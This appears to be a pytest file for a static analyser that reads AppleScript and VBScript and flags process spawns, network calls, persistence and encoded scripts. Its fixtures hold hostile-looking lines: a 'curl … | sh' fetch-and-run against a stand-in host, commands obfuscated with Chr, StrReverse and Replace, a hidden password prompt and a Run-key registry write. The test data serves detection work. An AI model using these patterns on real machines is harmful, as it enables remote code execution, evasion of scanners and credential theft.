"""AppleScript and VBScript: folded texts, what they start, and text that a shell hands to their hosts."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lazaretto.core.facts import Facts, Kind
from lazaretto.core.language import NoUnits
from lazaretto.languages import applescript, vbscript
from tests.languages.test_inner import read

URL = "https://drop.example.invalid/x"


def apple(text: str) -> Facts:
    """Read AppleScript."""
    return applescript.read("applescript", text.encode(), NoUnits())


def basic(text: str) -> Facts:
    """Read VBScript."""
    return vbscript.read("vbscript", text.encode(), NoUnits())


def values(facts: Facts, kind: Kind) -> list[str | None]:
    """Return the values of one kind."""
    return [fact.value for fact in facts.facts if fact.kind is kind]


@pytest.mark.parametrize(
    ("text", "value"),
    [
        (f'do shell script "curl {URL} | sh"', f"curl {URL} | sh"),
        (f'set u to "{URL}"\nset c to "curl " & u & " | sh"\ndo shell script c', f"curl {URL} | sh"),
        (f'property u : "{URL}"\ndo shell script ("curl " & u)', f"curl {URL}"),
        ('do shell script "echo \\"x\\""', 'echo "x"'),
        ('do shell script "a" & \u00ac\n"b"', "ab"),
        ('set x to (system info)\ndo shell script "open " & x', None),
    ],
)
def test_shell_scripts_of_applescript(text: str, value: str | None) -> None:
    """Constant texts are joined, also over lines; what is not constant is not known."""
    assert values(apple(text), Kind.PROCESS_SPAWN) == [value]


def test_questions_and_comments_of_applescript() -> None:
    """A dialog with a hidden answer asks for a password; a comment asks for nothing."""
    asked = 'display dialog "Password" default answer "" with hidden answer true\n'

    assert len(values(apple(asked), Kind.SECRET_READ)) == 1
    assert apple(f'-- {asked}# do shell script "id"\n').facts == ()


@pytest.mark.parametrize(
    ("text", "kind", "value", "via"),
    [
        (f's.Run "curl {URL}", 0', Kind.PROCESS_SPAWN, f"curl {URL}", "plain"),
        (f'u = "{URL}"\ns.Exec("curl " & u)', Kind.PROCESS_SPAWN, f"curl {URL}", "plain"),
        ('s.Run "c" & Chr(109) & ChrW(100) & " /c id"', Kind.PROCESS_SPAWN, "cmd /c id", "chr"),
        ('s.Run StrReverse("di c/ dmc")', Kind.PROCESS_SPAWN, "cmd /c id", "reverse"),
        ('s.Run Replace("cXd /c id", "X", "m")', Kind.PROCESS_SPAWN, "cmd /c id", "replace"),
        ('s.Run LCase(Trim(" ID "))', Kind.PROCESS_SPAWN, "id", "lcase"),
        (f'x.Open "GET", "{URL}", False', Kind.NET_CONNECT, URL, "plain"),
        ('Execute("x = 1")', Kind.CODE_EVAL, "x = 1", "plain"),
        ('f.DeleteFile "C:\\x"', Kind.FS_DELETE, "C:\\x", "plain"),
        ("s.Run given", Kind.PROCESS_SPAWN, None, "plain"),
        ('a = "x"\na = "y"\ns.Run a', Kind.PROCESS_SPAWN, None, "plain"),
    ],
)
def test_vbscript_folds(text: str, kind: Kind, value: str | None, via: str) -> None:
    """Constant texts and the functions that hide them are folded; ``via`` says how."""
    assert [(fact.value, fact.via) for fact in basic(text).facts if fact.kind is kind] == [(value, via)]


def test_registry_and_comments_of_vbscript() -> None:
    """A key that starts things again is persistence; a comment is nothing."""
    key = "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x"

    assert values(basic(f's.RegWrite "{key}", "y"'), Kind.PERSIST) == [key]
    assert basic('\' s.Run "id"\nREM s.Run "id"\n').facts == ()


def test_encoded_vbscript_is_not_understood() -> None:
    """Microsoft's encoding is told, and is a problem."""
    facts = basic("#@~^AAAAAA==x")

    assert not facts.complete
    assert values(facts, Kind.OBFUSCATED) == ["vbe"]


def test_text_that_a_shell_hands_over() -> None:
    """``osascript -e`` in a shell script leads to what the shell command inside it does."""
    facts = read("a.sh", f"#!/bin/sh\nosascript -e 'do shell script \"curl {URL} | sh\"'\n".encode())

    assert URL in values(facts, Kind.NET_CONNECT)


def test_too_long() -> None:
    """A script beyond the bound is a problem."""
    long = "x" * (applescript.MAX_SCRIPT + 1)

    assert not apple(long).complete
    assert not basic(long).complete


PIECES = ['"', '""', "&", "(", ")", "Chr(", "StrReverse(", "s.Run ", "a = ", "\n", "do shell script ", "set a to ", "'",
          "--", "a", "\u00ac\n", "_\n", "\\", 'x.Open "GET", ', "Replace(", ",", "1", "#@~^"]  # fmt: skip


@settings(max_examples=300)
@given(text=st.lists(st.sampled_from(PIECES), max_size=60).map("".join) | st.text(max_size=80))
def test_any_text(text: str) -> None:
    """Any text is read, the same way twice."""
    assert apple(text) == apple(text)
    assert basic(text) == basic(text)
